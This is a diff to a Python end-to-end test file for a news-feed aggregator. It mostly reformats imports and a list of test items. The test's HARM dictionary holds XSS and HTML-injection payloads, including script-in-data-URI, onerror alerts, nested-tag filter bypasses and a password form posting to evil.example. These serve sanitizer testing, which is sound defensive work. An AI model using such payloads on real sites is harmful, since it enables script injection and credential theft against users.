@@ -12,7 +12,16 @@ import pytest
 from aggregator.pipeline.house import House
 from tests.end_to_end import harm, published, soundness
 from tests.end_to_end.feeds import Item, page
-from tests.end_to_end.newsrooms import LIVE, Clock, Plan, load, public_of, store_of, take_round, write
+from tests.end_to_end.newsrooms import (
+    LIVE,
+    Clock,
+    Plan,
+    load,
+    public_of,
+    store_of,
+    take_round,
+    write,
+)
 from tests.end_to_end.web import Page, serve_web
 
 if TYPE_CHECKING:
@@ -28,7 +37,7 @@ HARM = {
     "data": '<a href="data:text/html,<script>alert(1)</script>">go</a>',
     "frame": '<iframe src="https://evil.example/"></iframe><object data="x.swf"></object>',
     "style": "<style>body { display: none }</style><p style='position: fixed'>over all</p>",
-    "form": '<form action="https://evil.example/"><input name="password"><button>in</button></form>',
+    "form": '<form action="https://evil.example/"><input name="password"><button>x</button></form>',
     "picture": '<img src="x" onerror="alert(1)"><svg onload="alert(1)"><script>1</script></svg>',
     "nested": "<scr<script>ipt>alert(1)</scr</script>ipt><<b>script>alert(1)</b>",
     "cdata": "<p>An end ]]> in the middle, and ]]&gt; again, <![CDATA[and a start</p>",
@@ -41,7 +50,9 @@ HARM = {
 def _items() -> list[Item]:
     """Return an entry for each kind of harm, with the harm in its title and its text."""
     return [
-        Item(guid=f"{name}-{html[:20]}", title=html, text=html, link=f"https://jester.example/{name}")
+        Item(
+            guid=f"{name}-{html[:20]}", title=html, text=html, link=f"https://jester.example/{name}"
+        )
         for name, html in HARM.items()
     ] + [
         Item(guid="script-link", title="A link", text="", link="javascript:alert(1)"),
